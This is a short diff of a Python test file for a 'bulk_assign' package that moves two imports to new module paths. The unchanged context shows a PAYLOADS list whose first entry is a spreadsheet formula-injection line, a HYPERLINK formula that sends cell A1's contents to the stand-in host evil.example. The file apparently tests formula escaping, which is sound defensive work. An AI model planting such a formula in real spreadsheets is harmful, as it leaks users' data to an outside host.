@@ -20,7 +20,7 @@ import sys
 import tempfile
 from pathlib import Path
 
-from bulk_assign.app import validate_command
+from bulk_assign.commands.run import validate_command
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
@@ -87,7 +87,7 @@ def _converted(soffice: str, book: Path, work: Path, *, sheet: int) -> list[list
 
 
 def _our_csv(path: Path) -> list[list[str]]:
-    from bulk_assign.cells import unescape
+    from bulk_assign.sheet.cells import unescape
 
     with path.open(encoding="utf-8-sig", newline="") as fh:
         return [[unescape(c) for c in line] for line in csv.reader(fh)]
